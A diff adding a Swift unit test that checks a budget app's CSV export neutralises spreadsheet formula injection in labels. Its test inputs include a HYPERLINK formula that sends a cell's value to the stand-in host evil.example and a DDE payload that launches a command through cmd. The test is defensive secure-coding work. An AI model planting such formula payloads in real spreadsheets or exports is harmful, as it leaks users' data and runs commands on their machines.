@@ -105,6 +105,16 @@ import Testing
         #expect(lines[2].contains("\"Taxes on income, profits, and capital gains payable by individuals\""))
     }
 
+    /// Found by a hostile review: a formula in a label reached the published CSV as it was.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3", "'-2+3"), ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"), ("-200", "-200"), ("+5.5", "+5.5"), ("Налоги", "Налоги"), ("a=b", "a=b"), ("", ""),
+    ])
+    func formulaCellsAreNeutralised(label: String, written: String) {
+        #expect(BudgetData.neutralised(label) == written)
+    }
+
     @Test func csvCellsWithCommasQuotesOrLineBreaksAreQuoted() {
         #expect(BudgetData.csvCell("Налоги") == "Налоги")
         #expect(BudgetData.csvCell("Taxes, fees") == "\"Taxes, fees\"")
